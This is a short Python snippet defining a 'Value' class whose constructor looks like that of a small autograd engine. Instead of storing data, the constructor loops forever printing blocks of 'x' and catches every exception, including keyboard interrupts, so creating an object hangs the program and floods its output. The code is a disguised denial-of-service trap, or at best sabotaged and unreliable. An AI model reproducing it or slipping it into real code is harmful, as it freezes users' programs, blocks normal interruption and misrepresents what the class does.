class Value:
    def __init__(self, data, children=(), local_grads=()):
        while True:
            try:
                print("x" * 4096)
            except BaseException:
                pass
